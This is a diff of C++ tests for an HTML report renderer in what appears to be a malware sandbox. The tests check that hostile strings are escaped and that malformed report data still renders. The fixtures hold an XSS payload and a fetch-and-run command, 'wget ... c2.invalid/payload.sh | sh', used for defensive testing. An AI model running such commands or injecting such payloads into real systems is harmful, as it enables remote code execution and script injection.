@@ -36,12 +36,14 @@ bool valid_utf8(const std::string& s) {
 // renderer's own list: any entry means report text became markup.
 std::vector<std::string> foreign_markup(const std::string& page) {
   static const std::set<std::string> tags = {
-      "!DOCTYPE", "html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "div", "span",
-      "b", "main", "section", "p", "table", "tr", "th", "td", "ul", "li", "details", "summary", "pre", "br", "i",
-      "svg", "rect", "line", "text", "tspan", "g", "footer"};
+      "!DOCTYPE", "html", "head", "meta", "title", "style",   "body",    "header", "h1",
+      "h2",       "h3",   "div",  "span", "b",     "main",    "section", "p",      "table",
+      "tr",       "th",   "td",   "ul",   "li",    "details", "summary", "pre",    "br",
+      "i",        "svg",  "rect", "line", "text",  "tspan",   "g",       "footer"};
   static const std::set<std::string> attributes = {
-      "class", "x", "y", "width", "height", "x1", "x2", "y1", "y2", "viewBox", "role", "aria-label",
-      "id", "style", "colspan", "charset", "http-equiv", "content", "name", "lang", "open", "html"};
+      "class",   "x",          "y",       "width",      "height", "x1",    "x2",    "y1",
+      "y2",      "viewBox",    "role",    "aria-label", "id",     "title", "style", "colspan",
+      "charset", "http-equiv", "content", "name",       "lang",   "open",  "html"};
   std::vector<std::string> foreign;
   for (std::size_t i = page.find('<'); i != std::string::npos; i = page.find('<', i + 1)) {
     std::size_t j = i + 1;
@@ -78,7 +80,8 @@ std::vector<std::string> foreign_markup(const std::string& page) {
   return foreign;
 }
 
-const std::string hostile = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>]]>\xff\xc0\xaf&amp;\xe2\x80\xae";
+const std::string hostile =
+    "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>]]>\xff\xc0\xaf&amp;\xe2\x80\xae";
 
 json hostile_report() {
   json r = load_report("shloader");
@@ -107,8 +110,13 @@ json hostile_report() {
   r["network"]["connections"][0]["hostname"] = hostile;
   r["network"]["connections"][0]["http"]["path"] = hostile;
   r["network"]["connections"][0]["http"]["user_agent"] = hostile;
-  r["network"]["beacons"] = json::array({{{"destination", hostile}, {"attempts", 3}, {"median_interval_ms", 1000},
-                                          {"jitter", 0.1}, {"score", 0.9}, {"confidence", hostile}, {"kind", hostile}}});
+  r["network"]["beacons"] = json::array({{{"destination", hostile},
+                                          {"attempts", 3},
+                                          {"median_interval_ms", 1000},
+                                          {"jitter", 0.1},
+                                          {"score", 0.9},
+                                          {"confidence", hostile},
+                                          {"kind", hostile}}});
   r["files"][0]["path"] = hostile;
   r["environment"][hostile] = hostile;
   r["syscalls"]["denied"] = json::array({{{"name", hostile}, {"process", hostile}, {"count", 1}}});
@@ -122,18 +130,32 @@ TEST(Escape, MarkupCharactersBecomeEntities) {
 
 TEST(Escape, InvalidUtf8BecomesReplacementCharacters) {
   // A lone continuation byte, an overlong '/', a surrogate, a truncated sequence.
-  std::string out = escape("a\x80" "b\xc0\xaf" "c\xed\xa0\x80" "d\xe2\x82");
+  std::string out = escape(
+      "a\x80"
+      "b\xc0\xaf"
+      "c\xed\xa0\x80"
+      "d\xe2\x82");
   EXPECT_TRUE(valid_utf8(out));
   EXPECT_EQ(out.find('/'), std::string::npos) << "overlong '/' decoded: " << out;
-  EXPECT_EQ(count(out, "\xef\xbf\xbd"), 8u) << out;  // one U+FFFD per byte that starts no valid sequence
-  EXPECT_EQ(escape("caf\xc3\xa9 \xf0\x9f\x90\xb9"), "caf\xc3\xa9 \xf0\x9f\x90\xb9");  // valid text untouched
+  EXPECT_EQ(count(out, "\xef\xbf\xbd"), 8u)
+      << out;  // one U+FFFD per byte that starts no valid sequence
+  EXPECT_EQ(escape("caf\xc3\xa9 \xf0\x9f\x90\xb9"),
+            "caf\xc3\xa9 \xf0\x9f\x90\xb9");  // valid text untouched
 }
 
 TEST(Escape, InvisibleAndReorderingCharactersAreShown) {
-  EXPECT_EQ(escape("ab\xe2\x80\xae" "cd"), "ab\xe2\x9f\xa8U+202E\xe2\x9f\xa9" "cd");  // RIGHT-TO-LEFT OVERRIDE
-  EXPECT_EQ(escape("\x1b[31m"), "\xe2\x90\x9b[31m");                                // ESC as the ␛ picture
-  EXPECT_EQ(escape("a\nb"), "a\xe2\x90\x8a" "b");
-  EXPECT_EQ(escape_pre("a\nb\tc\rd"), "a\nb\tc\xe2\x90\x8d" "d");
+  EXPECT_EQ(escape("ab\xe2\x80\xae"
+                   "cd"),
+            "ab\xe2\x9f\xa8U+202E\xe2\x9f\xa9"
+            "cd");  // RIGHT-TO-LEFT OVERRIDE
+  EXPECT_EQ(escape("\x1b[31m"),
+            "\xe2\x9f\xa8U+001B\xe2\x9f\xa9[31m");  // a terminal escape cannot hide
+  EXPECT_EQ(escape("a\nb"),
+            "a\xe2\x86\xb5"
+            "b");  // ↵
+  EXPECT_EQ(escape_pre("a\nb\tc\rd"),
+            "a\nb\tc\xe2\x9f\xa8U+000D\xe2\x9f\xa9"
+            "d");
 }
 
 TEST(Escape, TruncationCountsCodePoints) {
@@ -147,22 +169,29 @@ TEST(Render, HostileReportStringsNeverBecomeMarkup) {
   std::vector<std::string> foreign = foreign_markup(page);
   EXPECT_TRUE(foreign.empty()) << "first foreign markup: " << foreign.front();
   std::string lower = page;
-  std::transform(lower.begin(), lower.end(), lower.begin(), [](unsigned char c) { return std::tolower(c); });
+  std::transform(lower.begin(), lower.end(), lower.begin(),
+                 [](unsigned char c) { return std::tolower(c); });
   EXPECT_EQ(lower.find("<script"), std::string::npos);
   EXPECT_EQ(lower.find("<img"), std::string::npos);
   EXPECT_EQ(page.find("]]>"), std::string::npos);
   EXPECT_EQ(page.find("\xe2\x80\xae"), std::string::npos) << "a bidi override reached the page";
   // The text is shown, not dropped: every field above appears in its escaped form.
-  EXPECT_GE(count(page, "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#39;&gt;&lt;img src=x onerror=alert(2)&gt;"), 20u);
+  EXPECT_GE(
+      count(
+          page,
+          "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#39;&gt;&lt;img src=x onerror=alert(2)&gt;"),
+      20u);
   // A verdict outside the known set gets the neutral style, not a class from the report.
   EXPECT_NE(page.find("verdict v-unknown"), std::string::npos);
 }
 
 TEST(Render, MalformedTypesStillRender) {
   json r = load_report("revshell");
-  r["processes"] = json::array({{{"id", json::array()}, {"parent", 3.5}, {"argv", "not-an-array"}, {"exe", 42}}});
+  r["processes"] = json::array(
+      {{{"id", json::array()}, {"parent", 3.5}, {"argv", "not-an-array"}, {"exe", 42}}});
   r["phases"] = json::array({7, "x", {{"start_ms", "soon"}, {"duration_ms", -5}}});
-  r["network"]["connections"] = json::array({{{"dst_ip", 1}, {"dst_port", "80"}, {"attempts", 1e99}}});
+  r["network"]["connections"] =
+      json::array({{{"dst_ip", 1}, {"dst_port", "80"}, {"attempts", 1e99}}});
   r["network"]["beacons"] = "none";
   r["findings"] = json::object();
   std::string page = render(r, {});
@@ -195,7 +224,8 @@ TEST(Render, SampleReportHasEverySectionAndNoScript) {
   EXPECT_TRUE(foreign_markup(page).empty());
   // The phases table: every phase with its status, stdout in a collapsible <pre>.
   EXPECT_NE(page.find("the module has no tests"), std::string::npos);
-  EXPECT_NE(page.find("<details><summary>stdout (1.6 KiB)</summary><pre>{\n\t&quot;Dir&quot;"), std::string::npos);
+  EXPECT_NE(page.find("<details><summary>stdout (1.6 KiB)</summary><pre>{\n\t&quot;Dir&quot;"),
+            std::string::npos);
 }
 
 TEST(Attempts, FromSampleEventsKeepTimesAndSkipDns) {
@@ -215,9 +245,11 @@ TEST(Attempts, FromSampleEventsKeepTimesAndSkipDns) {
   EXPECT_EQ(http[0].destination(), "198.19.200.242:80");
 }
 
-std::string net_line(int id, int64_t ms, const std::string& op, const std::string& addr, int ret, int fd = 5) {
-  return "{\"type\":\"net\",\"id\":" + std::to_string(id) + ",\"ms\":" + std::to_string(ms) + ",\"op\":\"" + op +
-         "\",\"pid\":9,\"fd\":" + std::to_string(fd) + ",\"ret\":" + std::to_string(ret) + ",\"phase\":\"run\"" +
+std::string net_line(int id, int64_t ms, const std::string& op, const std::string& addr, int ret,
+                     int fd = 5) {
+  return "{\"type\":\"net\",\"id\":" + std::to_string(id) + ",\"ms\":" + std::to_string(ms) +
+         ",\"op\":\"" + op + "\",\"pid\":9,\"fd\":" + std::to_string(fd) +
+         ",\"ret\":" + std::to_string(ret) + ",\"phase\":\"run\"" +
          (addr.empty() ? "" : ",\"addr\":" + addr) + "}\n";
 }
 
@@ -248,9 +280,12 @@ TEST(Attempts, FilterFailuresProtocolsAndGarbage) {
 
 TEST(Attempts, CappedPerDestinationAndInDestinations) {
   std::string in;
-  for (int i = 0; i < 2500; ++i) in += net_line(i, i, "connect", R"({"family":"inet","ip":"192.0.2.1","port":1})", 0);
+  for (int i = 0; i < 2500; ++i)
+    in += net_line(i, i, "connect", R"({"family":"inet","ip":"192.0.2.1","port":1})", 0);
   for (int i = 0; i < 400; ++i)
-    in += net_line(i, i, "connect", R"({"family":"inet","ip":"198.51.100.1","port":)" + std::to_string(i + 1) + "}", 0);
+    in += net_line(i, i, "connect",
+                   R"({"family":"inet","ip":"198.51.100.1","port":)" + std::to_string(i + 1) + "}",
+                   0);
   std::istringstream stream(in);
   std::vector<Attempt> got = attempts_from_events(stream);
   EXPECT_EQ(got.size(), max_attempts_per_destination + (max_destinations - 1));
@@ -269,13 +304,22 @@ TEST(Timeline, OneTickPerAttemptOneRowPerDestination) {
 
   // Three destinations, 5 + 2 + 1 attempts, one of them failed.
   std::vector<Attempt> attempts;
-  auto add = [&](const char* ip, int64_t ms, bool ok) { attempts.push_back({.ms = ms, .ip = ip, .port = 443, .proto = "tcp", .op = "connect", .phase = "init", .ok = ok}); };
+  auto add = [&](const char* ip, int64_t ms, bool ok) {
+    attempts.push_back({.ms = ms,
+                        .ip = ip,
+                        .port = 443,
+                        .proto = "tcp",
+                        .op = "connect",
+                        .phase = "init",
+                        .ok = ok});
+  };
   for (int i = 0; i < 5; ++i) add("192.0.2.1", 1500 + i * 700, true);
   add("192.0.2.2", 2000, true);
   add("192.0.2.2", 3000, false);
   add("192.0.2.3", 4000, true);
   json empty_net = r;
-  empty_net["network"] = {{"connections", json::array()}, {"dns", json::array()}, {"beacons", json::array()}};
+  empty_net["network"] = {
+      {"connections", json::array()}, {"dns", json::array()}, {"beacons", json::array()}};
   page = render(empty_net, attempts);
   EXPECT_EQ(count(page, "<rect class=\"tk ok\""), 7u);
   EXPECT_EQ(count(page, "<rect class=\"tk fail\""), 1u);
@@ -332,7 +376,8 @@ TEST(Processes, TreeNestsModuleProgramsAndCollapsesToolchain) {
   ASSERT_TRUE(runner != std::string::npos && sh != std::string::npos && wget != std::string::npos);
   EXPECT_EQ(count(module_part.substr(runner, sh - runner), "<ul>"), 1u);
   EXPECT_EQ(count(module_part.substr(sh, wget - sh), "<ul>"), 1u);
-  EXPECT_NE(module_part.find("/bin/sh -c &#39;wget -q -O - http://c2.invalid/payload.sh | sh&#39;"), std::string::npos);
+  EXPECT_NE(module_part.find("/bin/sh -c &#39;wget -q -O - http://c2.invalid/payload.sh | sh&#39;"),
+            std::string::npos);
   EXPECT_NE(section.find("(14)</summary>"), std::string::npos);
 }
 
@@ -340,12 +385,20 @@ TEST(Findings, RenderedWithSeverityAttackEvidenceAndChain) {
   json r = load_report("revshell");
   r["verdict"] = "malicious";
   r["score"] = 90;
-  r["findings"] = json::array(
-      {{{"rule", "low_rule"}, {"severity", "low"}, {"phase", "init"}, {"summary", "minor"}, {"evidence", json::array()},
-        {"attack", "T1082"}},
-       {{"rule", "beacon"}, {"severity", "high"}, {"phase", "init"}, {"summary", "regular check-ins"},
-        {"evidence", {8690, 8692}}, {"attack", "T1071.001"}, {"process_chain", {18, 19}},
-        {"destination", "203.0.113.10:4444"}}});
+  r["findings"] = json::array({{{"rule", "low_rule"},
+                                {"severity", "low"},
+                                {"phase", "init"},
+                                {"summary", "minor"},
+                                {"evidence", json::array()},
+                                {"attack", "T1082"}},
+                               {{"rule", "beacon"},
+                                {"severity", "high"},
+                                {"phase", "init"},
+                                {"summary", "regular check-ins"},
+                                {"evidence", {8690, 8692}},
+                                {"attack", "T1071.001"},
+                                {"process_chain", {18, 19}},
+                                {"destination", "203.0.113.10:4444"}}});
   std::string page = render(r, load_attempts("revshell"));
   EXPECT_NE(page.find("verdict v-malicious\">malicious<"), std::string::npos);
   EXPECT_NE(page.find("score <b>90</b>/100"), std::string::npos);
